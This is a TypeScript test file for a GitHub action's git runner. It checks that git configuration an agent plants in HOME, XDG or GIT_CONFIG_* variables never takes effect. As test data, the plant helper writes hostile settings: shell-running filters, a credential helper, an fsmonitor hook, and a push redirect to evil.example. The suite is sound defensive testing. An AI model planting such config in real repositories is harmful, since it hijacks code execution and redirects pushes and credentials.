/**
 * The action's git reads its configuration from nowhere the agent can write (issue 12, class 2):
 * a filter, a pushInsteadOf or a credential helper planted in `~/.gitconfig`, the XDG config, a
 * global config file named by the environment, or `GIT_CONFIG_*` variables never takes effect;
 * what the user's system and global config held before the agent ran travels only as the few
 * settings the action needs (proxy, CA bundle, safe.directory, line endings), never a program.
 */
import { execFileSync } from 'node:child_process'
import { promises as fs } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { createGitRunner, readFrozenGitConfig } from '../../src/runtime/git/git.js'

let scratch: string
let repo: string
let home: string
let xdg: string
let marker: string

function git(cwd: string, env: Record<string, string>, ...args: string[]): string {
  return execFileSync('git', args, { cwd, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] })
}

/** What an agent writes into a config file it can reach: a filter that leaves a mark, a push redirect, a helper. */
function plant(file: string): void {
  const env = { PATH: process.env.PATH ?? '' }
  git(scratch, env, 'config', '--file', file, 'filter.evil.clean', `sh -c 'echo ${path.basename(file)} >> ${marker}; cat'`)
  git(scratch, env, 'config', '--file', file, 'url.https://evil.example/.pushInsteadOf', 'https://github.com/')
  git(scratch, env, 'config', '--file', file, 'credential.helper', `!sh -c 'echo helper >> ${marker}'`)
  git(scratch, env, 'config', '--file', file, 'core.fsmonitor', `sh -c 'echo fsmonitor >> ${marker}'`)
}

beforeAll(async () => {
  scratch = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'git-runner-config-')))
  repo = path.join(scratch, 'repo')
  home = path.join(scratch, 'home')
  xdg = path.join(scratch, 'xdg')
  marker = path.join(scratch, 'ran')
  await fs.mkdir(repo)
  await fs.mkdir(path.join(xdg, 'git'), { recursive: true })
  await fs.mkdir(home)
  const env = { PATH: process.env.PATH ?? '', HOME: home, GIT_CONFIG_NOSYSTEM: '1' }
  git(repo, env, 'init', '-q', '-b', 'main')
  await fs.writeFile(path.join(repo, '.gitattributes'), '* filter=evil\n')
  await fs.writeFile(path.join(repo, 'a.txt'), 'a\n')
  plant(path.join(home, '.gitconfig'))
  plant(path.join(xdg, 'git', 'config'))
  plant(path.join(scratch, 'frozen-copy'))
})

afterAll(async () => {
  await fs.rm(scratch, { recursive: true, force: true })
})

/** The environment a runner is handed after the agent ran: HOME, XDG and a global file the agent wrote, and GIT_CONFIG_* too. */
function plantedEnv(): Record<string, string> {
  return {
    PATH: process.env.PATH ?? '',
    HOME: home,
    XDG_CONFIG_HOME: xdg,
    GIT_CONFIG_GLOBAL: path.join(scratch, 'frozen-copy'),
    GIT_CONFIG_COUNT: '1',
    GIT_CONFIG_KEY_0: 'filter.evil.smudge',
    GIT_CONFIG_VALUE_0: `sh -c 'echo env >> ${marker}; cat'`,
    GIT_AUTHOR_NAME: 'Kept',
    GIT_AUTHOR_EMAIL: 'kept@example.com'
  }
}

test('config planted in HOME, XDG, a global file or GIT_CONFIG_* is not read: no filter runs on git add, no rewrite, no helper', async () => {
  await fs.rm(marker, { force: true })
  const runner = createGitRunner(repo, plantedEnv())
  await runner.run(['add', '-A'])
  await expect(fs.readFile(marker, 'utf8')).rejects.toThrow()
  for (const key of ['filter.evil.clean', 'filter.evil.smudge', 'url.https://evil.example/.pushinsteadof', 'credential.helper']) {
    const got = await runner.run(['config', '--get-all', key], { allowFailure: true })
    expect({ key, out: got.stdout.trim() }).toEqual({ key, out: '' })
  }
  expect((await runner.run(['ls-remote', '--get-url', 'https://github.com/o/r.git'])).stdout.trim()).toBe('https://github.com/o/r.git')
  // The commit identity still comes through.
  expect((await runner.run(['var', 'GIT_AUTHOR_IDENT'])).stdout).toMatch(/^Kept /)
})

test('positive control: git as it reads config by default runs the planted filter (the plant is live)', async () => {
  await fs.rm(marker, { force: true })
  const runner = createGitRunner(repo, plantedEnv(), { unowned: true })
  await fs.writeFile(path.join(repo, 'a.txt'), 'changed\n')
  await runner.run(['add', '-A'])
  expect(await fs.readFile(marker, 'utf8')).toMatch(/frozen-copy/)
})

test('readFrozenGitConfig keeps the settings the action needs and no program, rewrite or helper', async () => {
  const global = path.join(scratch, 'users-global')
  const env = { PATH: process.env.PATH ?? '', HOME: home, GIT_CONFIG_GLOBAL: global, GIT_CONFIG_NOSYSTEM: '1' }
  plant(global)
  git(scratch, env, 'config', '--global', 'http.proxy', 'http://proxy.internal:3128')
  git(scratch, env, 'config', '--global', 'http.https://ghe.internal/.sslCAInfo', '/etc/ssl/internal.pem')
  git(scratch, env, 'config', '--global', '--add', 'safe.directory', '/github/workspace')
  git(scratch, env, 'config', '--global', 'core.autocrlf', 'input')
  git(scratch, env, 'config', '--global', 'core.sshCommand', 'ssh -i /tmp/key')
  git(scratch, env, 'config', '--global', 'filter.lfs.clean', 'git-lfs clean -- %f')

  const frozen = await readFrozenGitConfig(repo, env)
  expect([...frozen].sort()).toEqual([
    ['core.autocrlf', 'input'],
    ['http.https://ghe.internal/.sslcainfo', '/etc/ssl/internal.pem'],
    ['http.proxy', 'http://proxy.internal:3128'],
    ['safe.directory', '/github/workspace']
  ])

  // Handed to a runner, they are in effect; a program smuggled into the list is dropped.
  const runner = createGitRunner(repo, plantedEnv(), { frozenConfig: [...frozen, ['filter.evil.clean', 'touch /tmp/x']] })
  expect((await runner.run(['config', '--get', 'http.proxy'])).stdout.trim()).toBe('http://proxy.internal:3128')
  expect((await runner.run(['config', '--get', 'filter.evil.clean'], { allowFailure: true })).stdout).toBe('')
})
